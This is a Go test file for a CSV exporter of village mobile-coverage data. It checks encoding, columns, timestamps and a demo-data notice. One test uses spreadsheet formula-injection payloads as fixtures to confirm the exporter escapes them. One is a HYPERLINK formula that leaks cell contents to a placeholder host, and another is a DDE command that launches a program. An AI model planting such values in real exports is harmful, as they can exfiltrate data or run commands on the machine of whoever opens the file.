package wire

import (
	"bytes"
	"encoding/csv"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/paulmach/orb"
	"github.com/paulmach/orb/geojson"

	"github.com/covmon/covmon/geo"
)

func TestWriteCSV(t *testing.T) {
	asOf := time.Date(2026, 11, 20, 0, 0, 0, 0, geo.Vietnam)
	sts := []geo.VillageStatus{
		{
			Village: &geo.Village{ID: "V02-0001", Name: "Thôn Nà Ản", CommuneCode: "02011", CommuneName: "Xã Đồng Văn",
				ProvinceCode: "02", ProvinceName: "Tuyên Quang", Center: orb.Point{105.3521, 23.2785}, GridPower: true, Baseline: true},
			Assessment: geo.Assessment{Status: geo.StatusDeadZone, CarriersReported: []string{"viettel", "vnpt"},
				LastObservedAt: time.Date(2026, 10, 1, 0, 0, 0, 0, geo.Vietnam)},
			Overdue: true, DaysOverdue: 719,
		},
		{
			Village:    &geo.Village{ID: "V02-0002", Name: "Bản \"Lũng\", Cú", ProvinceCode: "02", Center: orb.Point{105.1, 23.1}},
			Assessment: geo.Assessment{Status: geo.StatusNoData},
		},
	}
	fc := FeatureCollection(sts, asOf, true)
	var buf bytes.Buffer
	if err := WriteCSV(&buf, fc); err != nil {
		t.Fatal(err)
	}
	b := buf.Bytes()
	if !bytes.HasPrefix(b, []byte{0xEF, 0xBB, 0xBF}) {
		t.Fatalf("no UTF-8 BOM: % x", b[:3])
	}
	rows, err := csv.NewReader(bytes.NewReader(b[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 3 {
		t.Fatalf("%d rows, want header + 2", len(rows))
	}
	if want := append(slices.Clone(CSVColumns), "as_of", "notice"); !slices.Equal(rows[0], want) {
		t.Errorf("header %v, want %v", rows[0], want)
	}
	// Every GeoJSON property is a column, so the CSV and the GeoJSON carry the same fields.
	for _, f := range fc.Features {
		for k := range f.Properties {
			if !slices.Contains(rows[0], k) {
				t.Errorf("property %q has no column", k)
			}
		}
	}
	get := func(r int, col string) string { return rows[r][slices.Index(rows[0], col)] }
	for _, c := range []struct {
		row       int
		col, want string
	}{
		{1, "name", "Thôn Nà Ản"},
		{1, "commune_name", "Xã Đồng Văn"},
		{1, "lon", "105.3521"},
		{1, "lat", "23.2785"},
		{1, "status", "dead_zone"},
		{1, "overdue", "true"},
		{1, "days_overdue", "719"},
		{1, "carriers_reported", "viettel;vnpt"},
		{1, "carriers_with_signal", ""},
		{1, "last_observed_at", "2026-10-01T00:00:00+07:00"},
		{2, "name", `Bản "Lũng", Cú`},
		{2, "grid_power", "false"},
		{2, "status", "no_data"},
		{2, "area_coverage", ""},
	} {
		if got := get(c.row, c.col); got != c.want {
			t.Errorf("row %d %s = %q, want %q", c.row, c.col, got, c.want)
		}
	}
	if !strings.Contains(buf.String(), "Thôn Nà Ản") {
		t.Error("diacritics lost")
	}
}

// A text cell that a spreadsheet would read as a formula (=, +, -, @, tab, CR first) is
// written with a leading apostrophe: a carrier's plans file names its own site_id, and the
// ministry opens the export in Excel. Numbers, dates and the other cells are unchanged.
func TestWriteCSV_FormulaCells(t *testing.T) {
	f := geojson.NewFeature(orb.Point{-105.5, 23.1})
	f.Properties = geojson.Properties{
		"village_id": "V02-0001", "name": "Thôn Nà Ản",
		"site_id":              `=HYPERLINK("http://example.invalid/?"&A1,"xem")`,
		"commune_name":         "+cmd|' /C calc'!A0",
		"province_name":        "@SUM(1+1)",
		"responsible_carrier":  "-2+3",
		"reason":               "\tx",
		"carriers_with_signal": []string{"=1+1", "viettel"},
		"carriers_reported":    []string{"viettel", "=1+1"},
		"days_overdue":         -3, "days_late": -2.5,
		"last_observed_at": "2026-10-01T00:00:00+07:00",
	}
	fc := geojson.NewFeatureCollection()
	fc.Append(f)
	var buf bytes.Buffer
	if err := WriteCSV(&buf, fc); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(buf.Bytes()[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	get := func(col string) string { return rows[1][slices.Index(rows[0], col)] }
	for col, want := range map[string]string{
		"site_id":              `'=HYPERLINK("http://example.invalid/?"&A1,"xem")`,
		"commune_name":         "'+cmd|' /C calc'!A0",
		"province_name":        "'@SUM(1+1)",
		"responsible_carrier":  "'-2+3",
		"reason":               "'\tx",
		"carriers_with_signal": "'=1+1;viettel",
		"carriers_reported":    "viettel;=1+1",
		"name":                 "Thôn Nà Ản",
		"village_id":           "V02-0001",
		"lon":                  "-105.5",
		"days_overdue":         "-3",
		"days_late":            "-2.5",
		"last_observed_at":     "2026-10-01T00:00:00+07:00",
	} {
		if got := get(col); got != want {
			t.Errorf("%s = %q, want %q", col, got, want)
		}
	}
}

// The file alone says what it is: the instant its figures describe (as_of; days_overdue,
// status and the rest are as of it) and, with the demo data, that the data is synthetic
// (notice) — on every row, since a saved CSV keeps neither the response header nor the file
// name it was offered under, and a spreadsheet's filter or sort keeps whole rows. Both were
// only in the GeoJSON's collection members and an HTTP header.
func TestWriteCSV_AsOfAndNotice(t *testing.T) {
	asOf := time.Date(2024, 12, 1, 0, 0, 0, 0, geo.Vietnam)
	sts := []geo.VillageStatus{
		{Village: &geo.Village{ID: "A1", Name: "Bản Một", ProvinceCode: "08", Center: orb.Point{104.9, 22.8}}, Assessment: geo.Assessment{Status: geo.StatusNoData}},
		{Village: &geo.Village{ID: "A2", Name: "Bản Hai", ProvinceCode: "08", Center: orb.Point{105, 22.7}}, Assessment: geo.Assessment{Status: geo.StatusNoData}},
	}
	for _, demo := range []bool{false, true} {
		var buf bytes.Buffer
		if err := WriteCSV(&buf, FeatureCollection(sts, asOf, demo)); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(bytes.NewReader(buf.Bytes()[3:])).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		at, notice := slices.Index(rows[0], "as_of"), slices.Index(rows[0], "notice")
		if at < len(CSVColumns) {
			t.Fatalf("demo %v: header %v: want an as_of column after the documented ones", demo, rows[0])
		}
		if demo != (notice >= 0) {
			t.Errorf("demo %v: header %v: notice column present %v", demo, rows[0], notice >= 0)
		}
		for _, r := range rows[1:] {
			if r[at] != "2024-12-01T00:00:00+07:00" {
				t.Errorf("demo %v: %s as_of %q", demo, r[0], r[at])
			}
			if demo && r[notice] != DemoNotice {
				t.Errorf("%s notice %q, want %q", r[0], r[notice], DemoNotice)
			}
		}
	}
}

// docs/api.md lists the export's columns in order, as written: the list there left out
// discrepancies, between responsible_carrier and lifecycle_step.
func TestCSVColumns_Documented(t *testing.T) {
	doc, err := os.ReadFile("../../docs/api.md")
	if err != nil {
		t.Fatal(err)
	}
	text := strings.Join(strings.Fields(string(doc)), " ")
	want := "the columns `" + strings.Join(CSVColumns, ", ") + "`"
	if !strings.Contains(text, want) {
		i := strings.Index(text, "the columns `village_id")
		if i < 0 {
			t.Fatalf("docs/api.md does not list the CSV columns; want %s", want)
		}
		t.Errorf("docs/api.md lists the CSV columns as\n  %s\nwant\n  %s", text[i:min(len(text), i+len(want))], want)
	}
}
